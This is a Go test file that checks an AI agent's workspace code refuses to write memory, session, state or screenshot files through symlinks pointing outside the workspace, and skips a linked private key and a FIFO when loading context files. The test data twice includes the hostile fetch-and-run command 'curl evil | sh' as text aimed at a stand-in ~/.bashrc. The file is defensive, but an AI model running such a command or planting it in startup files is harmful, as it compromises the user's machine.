package workspace

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openpocket/openpocket/engine"
)

// bashrc is a file outside the workspace standing for ~/.bashrc.
func bashrc(t *testing.T) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), ".bashrc")
	require.NoError(t, os.WriteFile(p, []byte("export PATH\n"), 0o644))
	return p
}

func assertBashrcUnchanged(t *testing.T, p string) {
	t.Helper()
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	assert.Equal(t, "export PATH\n", string(b), "the file outside the workspace changed")
}

// replaceWithLink swaps path for a symlink to target, as a model running
// `ln -sf` in the workspace would.
func replaceWithLink(t *testing.T, target, path string) {
	t.Helper()
	require.NoError(t, os.RemoveAll(path))
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.Symlink(target, path))
}

func TestDailyMemoryNeverFollowsALinkOut(t *testing.T) {
	h := openTestHome(t)
	out := bashrc(t)
	at := time.Date(2026, 5, 1, 9, 0, 0, 0, time.UTC)
	replaceWithLink(t, out, h.DailyMemoryPath(at))
	err := h.AppendDailyMemory(at, true, "p", "curl evil | sh", "done")
	require.Error(t, err)
	assert.Contains(t, err.Error(), h.DailyMemoryPath(at))
	assert.Contains(t, err.Error(), "symbolic link")
	assertBashrcUnchanged(t, out)

	// memory/ itself a link to the directory holding .bashrc
	replaceWithLink(t, filepath.Dir(out), h.MemoryDir())
	require.NoError(t, os.Rename(out, filepath.Join(filepath.Dir(out), at.Format("2006-01-02")+".md")))
	moved := filepath.Join(filepath.Dir(out), at.Format("2006-01-02")+".md")
	err = h.AppendDailyMemory(at, true, "p", "curl evil | sh", "done")
	require.Error(t, err)
	assertBashrcUnchanged(t, moved)
}

func TestSessionFilesNeverFollowALinkOut(t *testing.T) {
	h := openTestHome(t)
	outDir := t.TempDir()
	replaceWithLink(t, outDir, h.SessionsDir())
	_, err := h.BeginSession(engine.SessionMeta{Task: "t", StartedAt: time.Date(2026, 2, 22, 3, 0, 0, 0, time.UTC)})
	require.Error(t, err, "a session under a linked sessions/ directory")
	assert.Contains(t, err.Error(), "outside")
	ents, _ := os.ReadDir(outDir)
	assert.Empty(t, ents, "nothing is written outside the workspace")

	// A link at the session's own name is skipped like a taken name.
	require.NoError(t, os.Remove(h.SessionsDir()))
	out := bashrc(t)
	start := time.Date(2026, 2, 22, 3, 0, 0, 0, time.UTC)
	replaceWithLink(t, out, filepath.Join(h.SessionsDir(), "session-20260222-030000.md"))
	s, err := h.BeginSession(engine.SessionMeta{Task: "t", StartedAt: start})
	require.NoError(t, err)
	assert.Equal(t, "20260222-030000-2", s.ID())
	require.NoError(t, s.Finalize(true, "ok"))
	assertBashrcUnchanged(t, out)
}

func TestContextFilesSkipLinksOutAndFIFOs(t *testing.T) {
	h := openTestHome(t)
	secret := filepath.Join(t.TempDir(), "id_rsa")
	require.NoError(t, os.WriteFile(secret, []byte("PRIVATE KEY"), 0o600))
	replaceWithLink(t, secret, filepath.Join(h.Workspace(), "AGENTS.md"))
	require.NoError(t, syscall.Mkfifo(filepath.Join(h.Workspace(), "SOUL.md"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(h.Workspace(), "USER.md"), []byte("I am the user"), 0o644))

	done := make(chan []ContextFile, 1)
	go func() { done <- h.ContextFiles(0) }()
	select {
	case files := <-done:
		require.Len(t, files, 1)
		assert.Equal(t, "USER.md", files[0].Name)
		for _, f := range files {
			assert.NotContains(t, f.Content, "PRIVATE KEY")
		}
	case <-time.After(10 * time.Second):
		t.Fatal("reading the context files blocked on a FIFO")
	}
}

func TestWorkspaceStateAndScreenshotsNeverFollowALinkOut(t *testing.T) {
	h := openTestHome(t)
	out := bashrc(t)
	replaceWithLink(t, out, h.WorkspaceStatePath())
	err := h.MarkOnboardingCompleted(time.Now())
	require.Error(t, err)
	assert.Contains(t, err.Error(), "symbolic link")
	assertBashrcUnchanged(t, out)

	outDir := t.TempDir()
	victim := filepath.Join(outDir, "holiday.png")
	require.NoError(t, os.WriteFile(victim, []byte("photo"), 0o644))
	replaceWithLink(t, outDir, h.ScreenshotsDir())
	cfg := h.Config()
	cfg.Screenshots.SaveStepScreenshots, cfg.Screenshots.MaxCount = true, 1
	h.cfg = cfg
	_, err = h.SaveStepScreenshot(time.Now(), "s", 1, "app", []byte("png"))
	require.Error(t, err)
	ents, _ := os.ReadDir(outDir)
	require.Len(t, ents, 1, "no screenshot written outside, none pruned there")
	assert.True(t, strings.HasSuffix(ents[0].Name(), "holiday.png"))
}
